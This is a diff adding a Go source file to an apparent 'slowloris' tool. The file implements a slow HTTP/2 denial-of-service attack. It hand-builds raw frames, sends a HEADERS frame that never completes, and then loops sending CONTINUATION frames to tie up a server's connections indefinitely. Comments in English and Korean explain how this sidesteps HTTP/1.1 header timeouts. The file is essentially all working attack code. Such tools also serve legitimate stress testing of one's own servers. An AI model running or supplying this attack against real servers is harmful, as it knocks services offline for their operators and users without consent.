@@ -0,0 +1,82 @@
+package slowloris
+
+import (
+	"bufio"
+	"context"
+	"encoding/binary"
+	"net"
+
+	"golang.org/x/net/http2"
+)
+
+// HTTP/2 frame type bytes (RFC 7540 section 11.2) for the handful of frame
+// types this attack needs to emit by hand.
+const (
+	frameTypeHeaders      = 0x1
+	frameTypeSettings     = 0x4
+	frameTypeContinuation = 0x9
+)
+
+// performSlowHTTP2 sends the connection preface and a SETTINGS frame (both
+// required before a server will read anything else), then a HEADERS frame
+// whose field block never carries END_HEADERS - the server is left waiting
+// for a CONTINUATION frame that completes the header block forever, the h2
+// analogue of withholding \r\n\r\n. Most HTTP/1.1-specific mitigations
+// (ReadHeaderTimeout racing the request line) don't apply here, since the
+// server is blocked inside its HTTP/2 framer instead.
+// Returns true if the server closed the connection first.
+func (r *Run) performSlowHTTP2(ctx context.Context, conn net.Conn, id int) bool {
+	if _, err := conn.Write([]byte(http2.ClientPreface)); err != nil {
+		return true
+	}
+
+	// 프리페이스 직후 클라이언트는 반드시 SETTINGS를 보내야 서버 프레이머가
+	// 넘어간다. 내용은 비워도 된다 - 기본값을 그대로 받아들이겠다는 뜻.
+	if _, err := conn.Write(http2Frame(frameTypeSettings, 0, 0, nil)); err != nil {
+		return true
+	}
+	r.stats.headersSent.Add(1)
+
+	// :method GET, :scheme https, :path / 만 담은 불완전한 필드 블록.
+	// END_HEADERS(0x4) 플래그를 절대 세우지 않아 서버가 헤더 블록이 끝나기를
+	// 영원히 기다리게 만든다.
+	fragment := []byte{0x82, 0x87, 0x84}
+	if _, err := conn.Write(http2Frame(frameTypeHeaders, 0, 1, fragment)); err != nil {
+		return true
+	}
+	r.stats.headersSent.Add(1)
+
+	reader := bufio.NewReader(conn)
+
+	// CONTINUATION 프레임을 계속 보내 연결을 유지한다 (여전히 END_HEADERS는
+	// 세우지 않는다) - 고전 slowloris의 커스텀 헤더 라인과 같은 역할.
+	for {
+		if err := r.headerLimiter.Wait(ctx); err != nil {
+			return false
+		}
+
+		if done, closedByServer := r.pollServerClosed(conn, reader, id); done {
+			return closedByServer
+		}
+
+		if _, err := conn.Write(http2Frame(frameTypeContinuation, 0, 1, []byte{0x00})); err != nil {
+			return true // 서버가 연결 끊음
+		}
+		r.stats.headersSent.Add(1)
+	}
+}
+
+// http2Frame builds a raw HTTP/2 frame: a 9-byte frame header (24-bit
+// length, type, flags, 31-bit stream ID) followed by payload.
+func http2Frame(frameType, flags byte, streamID uint32, payload []byte) []byte {
+	frame := make([]byte, 9+len(payload))
+	length := len(payload)
+	frame[0] = byte(length >> 16)
+	frame[1] = byte(length >> 8)
+	frame[2] = byte(length)
+	frame[3] = frameType
+	frame[4] = flags
+	binary.BigEndian.PutUint32(frame[5:9], streamID&0x7fffffff)
+	copy(frame[9:], payload)
+	return frame
+}